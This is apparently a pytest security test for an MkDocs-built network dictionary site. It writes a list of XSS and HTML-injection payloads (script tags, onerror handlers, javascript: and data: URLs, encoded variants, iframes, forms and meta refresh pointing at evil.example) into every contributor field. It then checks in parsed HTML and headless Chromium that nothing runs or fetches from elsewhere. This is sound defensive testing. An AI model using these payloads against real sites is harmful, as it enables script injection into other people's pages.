"""The guarantee on the output: hostile text that no check stopped is still inert in the built site.

The input checks (``nvdict check``) refuse most of these payloads with a message; this
test goes around them on purpose. It loads the real dictionary, writes attacker text
into every field a contributor controls — term fields, diagrams, tables, comparison
tables, compositions, corrections — raw, entity-encoded and double-encoded, and builds
the site with the project's own hooks. Then:

- every page's HTML is parsed: no script but the site's own files and the theme's inline
  scripts, no event-handler attribute, no script-bearing address, nothing embedded or
  fetched from another host, no ``title`` that Material's tooltips would turn into
  markup, every id once per page, a Content-Security-Policy on every page;
- every page is opened in headless Chromium with every request recorded: none may leave
  the site, no dialog may open, the probe ``window.__pwned`` must stay unset, also after
  hovering every link that has a tooltip and typing payloads into search.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from tests.browser import browser
from tests.conftest import serve

ROOT = Path(__file__).resolve().parent.parent

pytestmark = pytest.mark.slow

PROBE = "window.__pwned=1"
INLINE = [
    f"<script>{PROBE}</script>",
    f"&lt;script&gt;{PROBE}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{PROBE}&amp;lt;/script&amp;gt;",
    f'<img src=x onerror="{PROBE}">',
    f"&lt;img src=x onerror={PROBE}&gt;",
    f"&#x3C;img src=x onerror={PROBE}&#x3E;",
    f'"><svg onload={PROBE}>',
    f"'><svg onload={PROBE}>",
    f'<a href="https://example.org" title="&lt;img src=x onerror={PROBE}&gt;">titled</a>',
    "{{ config }} {% include 'x' %}",
    "<strong>left open",
]
BLOCKS = [
    *INLINE,
    f"[js](javascript:{PROBE})",
    f"[tab](java&#x09;script:{PROBE})",
    f"[entity](javascript&colon;{PROBE})",
    "[scheme-relative](//evil.example/x)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'[hover](https://example.org "&lt;img src=x onerror={PROBE}&gt;")',
    "![pixel](https://evil.example/pixel.png)",
    f"*[HTML]: &lt;img src=x onerror={PROBE}&gt;\n\nHTML here",
    "```mermaid\ngraph LR\n  A-->B\n```",
    "[stolen](#xdp) {#xdp}",
    "A footnote.[^1]\n\n[^1]: One entry's footnote.",
    f"[ref][r]\n\n[r]: javascript:{PROBE}",
    f"</div></article><script>{PROBE}</script>",
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    '<div style="background:url(https://evil.example/x.png)">styled</div>',
    f'<math><mi xlink:href="javascript:{PROBE}">x</mi></math>',
    "## A heading inside a definition",
]
TEXT = " ".join(INLINE)
MARKDOWN = "\n\n".join(BLOCKS)
BREAKOUT = f'x"\n```\n<script>{PROBE}</script>\n```mermaid\ngraph LR\n  A-->B\n```'
JS_URL = f"javascript:{PROBE}"


def hostile_dictionary():
    """The real dictionary with attacker text in every field a contributor writes."""
    from nvdict.derive import derive
    from nvdict.load import load
    from nvdict.model import Composition, Correction, Diagram, Reference, StaticTable

    dictionary = copy.deepcopy(load(ROOT))
    victim = dictionary.terms["vxlan"]
    for index, kind in enumerate(["text", "mermaid", "c", 'text" onload="x']):
        victim.diagrams.append(Diagram(f"{MARKDOWN}\n{BREAKOUT}", kind, f"{TEXT}{BREAKOUT}" if index else None))
    victim.tables.append(StaticTable([TEXT, "b"], [[TEXT, MARKDOWN.replace("\n", " ")]], TEXT + BREAKOUT))
    victim.details = MARKDOWN
    victim.references.append(Reference(TEXT, JS_URL))
    for number, term_id in enumerate(["hostile-one", "other-names", "nvd-corrections"]):
        term = dataclasses.replace(
            victim,
            id=term_id,
            name=f"Hostile {number} {TEXT}",
            expansion=TEXT,
            aliases=[f"Alias {number} {TEXT}"],
            summary=f"A summary {TEXT}",
            definition=MARKDOWN + f"\n\nSee [VXLAN](id:vxlan).{BREAKOUT}",
            related=["vxlan"],
            relations={},
            versions={TEXT: TEXT},
            reviewed=TEXT,
            status="deprecated",
            status_note=TEXT,
            table_rows={"performance-tiers": [{"label": TEXT, "throughput": MARKDOWN, "latency": TEXT}]},
        )
        dictionary.terms[term_id] = term
    table = dictionary.tables["performance-tiers"]
    dictionary.tables["performance-tiers"] = dataclasses.replace(
        table, title=f"Tiers {TEXT}", description=TEXT, note=TEXT, label=TEXT
    )
    dictionary.compositions.append(
        Composition(
            "hostile",
            f"Composition {TEXT}",
            f"A summary {TEXT}",
            MARKDOWN + BREAKOUT,
            ["vxlan"],
            mermaid=f'graph LR\n  A[{TEXT}]-->B\n  click A "{JS_URL}"\n```\n<script>{PROBE}</script>',
            notes=MARKDOWN,
        )
    )
    dictionary.corrections.append(
        Correction("2026-12-05", "vxlan", "definition", TEXT, TEXT, MARKDOWN, Reference(TEXT, JS_URL))
    )
    dictionary.corrections.append(Correction("2026-12-05", "nvd-corrections", "summary", TEXT, TEXT, TEXT))
    category = next(iter(dictionary.categories.values()))
    dictionary.categories[category.id] = dataclasses.replace(category, title=f"Cat {TEXT}", description=TEXT)
    derive(dictionary)
    return dictionary


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile dictionary built in this process with the project's own hooks (no input check)."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    import nvdict.load
    import nvdict.macros

    dictionary = hostile_dictionary()
    site = tmp_path_factory.mktemp("hostile") / "site"
    patch = pytest.MonkeyPatch()
    patch.setattr(nvdict.load, "load_cached", lambda root, files=None: dictionary)
    patch.setattr(nvdict.macros, "load_cached", lambda root, files=None: dictionary)
    patch.setitem(os.environ, "NO_MKDOCS_2_WARNING", "1")
    try:
        config = load_config(config_file=str(ROOT / "mkdocs.yml"), site_dir=str(site))
        config.plugins.on_startup(command="build", dirty=False)
        try:
            build(config)
        finally:
            config.plugins.on_shutdown()
    finally:
        patch.undo()
    return site


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


SCRIPT_SCHEMES = re.compile(r"^(javascript|data|vbscript):", re.I)
CONTROL = re.compile(r"[\x00-\x20\x7f]+")
EMBEDS = ("iframe", "object", "embed", "form", "base", "frame", "frameset", "applet")


def offences(site: Path, path: Path) -> Iterator[str]:
    """What on one page could run script, fetch from elsewhere or rewrite a neighbour.

    The theme's search-share button carries ``javascript:void(0)``; the policy forbids running it.
    """
    from hooks.theme_safety import theme_scripts

    soup = BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")
    where = path.relative_to(site).as_posix()
    policy = soup.select_one('meta[http-equiv="Content-Security-Policy"]')
    if (
        policy is None
        or "script-src 'self'" not in policy["content"]
        or "unsafe-inline" in policy["content"].split("style-src")[0]
    ):
        yield f"{where}: no strict Content-Security-Policy"
    for script in soup.find_all("script"):
        if script.get("src"):
            if re.match(r"^([a-z]+:)?//", script["src"], re.I):
                yield f"{where}: script from another host {script['src']}"
        elif script.get("type") != "application/json" and not any(
            pattern.fullmatch(script.string or "") for pattern in theme_scripts()
        ):
            yield f"{where}: inline script {str(script)[:80]}"
    ids: set[str] = set()
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                yield f"{where}: event handler {name} on <{element.name}>"
            addresses = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")
            theirs = element.get("data-md-component") == "search-share" and value == "javascript:void(0)"
            if name.lower() in addresses and SCRIPT_SCHEMES.match(CONTROL.sub("", value)) and not theirs:
                yield f"{where}: script address {value[:60]} on <{element.name}>"
            if name == "style" and "url(" in value:
                yield f"{where}: style with url() on <{element.name}>"
            if name == "id":
                if value in ids:
                    yield f"{where}: id {value!r} twice"
                ids.add(value)
        if element.name in EMBEDS and not (element.name == "form" and element.find_parent("header")):
            yield f"{where}: <{element.name}>"  # the theme's own forms (search, palette) are in the header
        if element.name == "meta" and element.get("http-equiv", "").lower() == "refresh":
            yield f"{where}: meta refresh"
        if element.name in ("img", "source", "video", "audio", "link", "svg", "image"):
            for attribute in ("src", "href", "srcset", "xlink:href"):
                address = element.get(attribute, "")
                if re.match(r"^([a-z]+:)?//", address, re.I) and not (
                    element.name == "link" and element.get("rel") == ["canonical"]
                ):
                    yield f"{where}: <{element.name}> from another host {address}"
    article = soup.select_one("article")
    for element in article.find_all(title=True) if article else []:
        if "<" in element["title"] or "&" in element["title"]:
            yield f"{where}: markup in a tooltip title {element['title'][:60]}"


def test_no_page_carries_anything_that_could_run_or_fetch(hostile_site: Path) -> None:
    found = [offence for path in pages(hostile_site) for offence in offences(hostile_site, path)]
    assert found == []


def test_the_payloads_are_shown_as_text(hostile_site: Path) -> None:
    page = BeautifulSoup((hostile_site / "hostile-one" / "index.html").read_text(encoding="utf-8"), "lxml")
    text = page.select_one("article").get_text(" ")
    assert f"<script>{PROBE}</script>" in text, "the raw payload shows as text"
    assert "&lt;script&gt;" in text, "double-encoded shows its entities"
    assert "{{ config }}" in text
    assert page.title.get_text().startswith("Hostile 0 <script>")
    assert "<script>" in page.select_one("meta[name=description]")["content"]
    assert page.select_one("meta[property='og:description']")["content"].startswith("A summary <script>")


def test_a_hostile_correction_is_listed_as_text_on_its_entry(hostile_site: Path) -> None:
    """The log's text shows on the entry's page as text, and a source no page may link is not a link."""
    page = BeautifulSoup((hostile_site / "vxlan" / "index.html").read_text(encoding="utf-8"), "lxml")
    item = next(li for li in page.select("details.nvd-corrections ol.nvd-log > li") if PROBE in li.get_text())
    assert f"<script>{PROBE}</script>" in item.get_text(" "), "the payload shows as text"
    source = item.select("dd")[-1]
    assert source.find("a") is None and TEXT in source.get_text(), "the javascript: source is shown by its title"


def test_an_entry_named_like_the_corrections_anchor_keeps_both(hostile_site: Path) -> None:
    """An entry whose id looks like the anchor of the corrections list: the link still opens the list."""
    from nvdict.pages import HISTORY_ID
    from nvdict.validate import _ID

    assert _ID.match("nvd-corrections") and not _ID.match(HISTORY_ID), "no entry id can take the anchor"
    page = BeautifulSoup((hostile_site / "nvd-corrections" / "index.html").read_text(encoding="utf-8"), "lxml")
    link = page.select_one("div.nvd-meta a.nvd-history")
    targets = page.select(f"[id={link['href'][1:]}]")
    assert len(targets) == 1 and targets[0].find_parent("details", class_="nvd-corrections") is not None


def test_one_entry_cannot_reach_another(hostile_site: Path) -> None:
    page = BeautifulSoup((hostile_site / "hostile-one" / "index.html").read_text(encoding="utf-8"), "lxml")
    assert page.select("[id=xdp]") == [], "an entry cannot take another entry's anchor"
    assert page.select_one(".nvd-aside strong") is not None
    footer = page.select_one("footer")
    assert footer is not None and footer.find_parent("strong") is None, "an unclosed tag ends with its entry"
    letter = BeautifulSoup((hostile_site / "x" / "index.html").read_text(encoding="utf-8"), "lxml")
    assert letter.select_one("h2#xdp") is not None


def test_an_id_that_shadows_a_generated_anchor_stays_apart(hostile_site: Path) -> None:
    """An entry called other-names has its own page; the letter's Other names section keeps its anchor."""
    assert (hostile_site / "other-names" / "index.html").exists()
    letter = BeautifulSoup((hostile_site / "h" / "index.html").read_text(encoding="utf-8"), "lxml")
    assert len(letter.select("[id=other-names]")) <= 1


def test_the_search_index_carries_no_markup(hostile_site: Path) -> None:
    index = json.loads((hostile_site / "search" / "search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        for key in ("title", "text"):
            soup = BeautifulSoup(doc[key], "html.parser")
            assert soup.find(["script", "img", "svg", "iframe", "a"]) is None, (doc["location"], doc[key][:80])
            assert not any(a for e in soup.find_all(True) for a in e.attrs), (doc["location"], doc[key][:80])


@pytest.mark.browser
def test_every_page_is_inert_in_chromium(hostile_site: Path) -> None:
    outside: list[str] = []
    dialogs: list[str] = []
    pwned: list[str] = []
    with serve(hostile_site) as url, browser() as chromium:
        context = chromium.new_context()

        def route(request_route) -> None:
            if request_route.request.url.startswith(url):
                request_route.continue_()
            else:
                outside.append(request_route.request.url)
                request_route.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in pages(hostile_site):
            address = url + path.relative_to(hostile_site).as_posix()
            page.goto(address, wait_until="load")
            if "hostile" in address or "vxlan" in address or "corrections" in address:
                page.wait_for_timeout(500)  # diagrams render
                for link in page.locator("article [title]").all()[:40]:
                    if link.is_visible():
                        link.hover()
                        page.wait_for_timeout(30)
            if page.evaluate("() => window.__pwned"):
                pwned.append(address)
        page.goto(url + "a/")
        for query in ("hostile", "script", "img src", "onerror", "<svg"):
            page.locator(".md-search__input").first.fill(query)
            page.wait_for_timeout(600)
            if page.evaluate("() => window.__pwned"):
                pwned.append(f"search {query!r}")
        context.close()
    assert pwned == [] and dialogs == []
    assert outside == [], "no request may leave the site"
